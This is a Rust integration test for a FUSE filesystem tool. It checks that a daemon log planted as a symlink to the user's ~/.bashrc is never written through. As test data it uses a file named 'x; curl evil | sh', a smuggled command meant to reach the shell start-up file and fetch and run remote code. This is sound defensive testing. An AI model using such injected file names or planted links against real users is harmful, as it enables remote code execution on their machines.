//! A repository somebody else prepared (a work directory handed over with its `.pvr/`, e.g. as
//! a tarball): files under `.pvr/pvrfs/` planted as symbolic links to the user's own files
//! must never be written through. (Planted upper files of an overlay: the unit tests of
//! `fs::overlay::hostile_tests`; planted objects: tests/hostile_dir.rs.)

use pvrfs_testkit as common;

use common::*;
use std::ffi::OsStr;
use std::fs;

/// The daemon's log (`.pvr/pvrfs/logs/mount<mountpoint>.log`) planted as a link to the user's
/// `~/.bashrc`: the daemon used to append its log lines, which quote the repository's paths
/// (chosen by whoever prepared it), to the user's shell start-up file.
#[test]
fn a_planted_daemon_log_link_is_not_written_through() {
    if !fuse_available() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let w = tmp.path().join("w");
    fs::create_dir(&w).unwrap();
    let repo = repo_with(&w, &[("x; curl evil | sh", b"alpha")]);
    // A file whose object is gone: reading it makes the daemon log an error naming the path.
    let id = pvrfs::oid::ObjectId::hash_bytes(b"alpha");
    fs::remove_file(repo.store().path_of(&id)).unwrap();
    let bashrc = tmp.path().join("bashrc");
    fs::write(&bashrc, b"# the user's own\n").unwrap();
    let logs = w.join(".pvr/pvrfs/logs");
    fs::create_dir_all(&logs).unwrap();
    for rw in [false, true] {
        let mnt = tempfile::tempdir().unwrap();
        let canonical = fs::canonicalize(mnt.path()).unwrap();
        let name: String = canonical
            .to_string_lossy()
            .chars()
            .map(|c| {
                if c.is_ascii_alphanumeric() || c == '-' || c == '.' {
                    c
                } else {
                    '_'
                }
            })
            .collect();
        std::os::unix::fs::symlink(&bashrc, logs.join(format!("mount{name}.log"))).unwrap();
        let mut cmd = pvrfs([
            OsStr::new("mount"),
            w.as_os_str(),
            OsStr::new("latest"),
            mnt.path().as_os_str(),
        ])
        .env("RUST_LOG", "debug");
        if rw {
            cmd = cmd.arg("--rw");
        }
        let run = cmd.run();
        // From here the guard unmounts, also if an assertion fails.
        let m = Mount { dir: mnt };
        assert!(run.success(), "{}", run.stderr());
        let _ = fs::read(m.join("x; curl evil | sh"));
        drop(m);
        let now = fs::read(&bashrc).unwrap();
        assert!(
            now == b"# the user's own\n",
            "rw={rw}: the daemon wrote {} bytes through the planted link",
            now.len()
        );
    }
}
